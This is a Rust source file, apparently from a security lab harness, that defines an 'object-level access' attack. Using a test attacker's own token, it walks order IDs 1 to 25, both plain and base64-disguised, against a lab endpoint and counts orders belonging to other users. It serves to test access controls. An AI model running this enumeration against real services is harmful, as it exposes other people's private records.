//! Object-level access: counting through the orders of everybody.

use actix_web::http::Method;
use base64::Engine;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use evidence::Failure;

use super::Attack;
use super::attacker::Attacker;
use crate::lab::MALLORY;

pub(super) const ATTACK: Attack = Attack {
    id: "object-access",
    name: "object-level access",
    what: "orders of others read",
    run: |attacker| Box::pin(attack(attacker)),
};

async fn attack(attacker: &Attacker<'_>) -> Result<u64, Failure> {
    let own = attacker.own_bearer().await?;
    let mut others = 0;
    for number in 1..=25 {
        // Disguised numbers are numbers.
        let disguised = URL_SAFE_NO_PAD.encode(number.to_string());
        for id in [number.to_string(), disguised] {
            let path = format!("/lab/orders/{id}");
            let got = attacker.send(Method::GET, &path, &[("authorization", &own)], "").await?;
            let owner = got.json()["owner"].as_i64();
            others += u64::from(owner.is_some_and(|owner| owner != MALLORY.0));
        }
    }
    Ok(others)
}
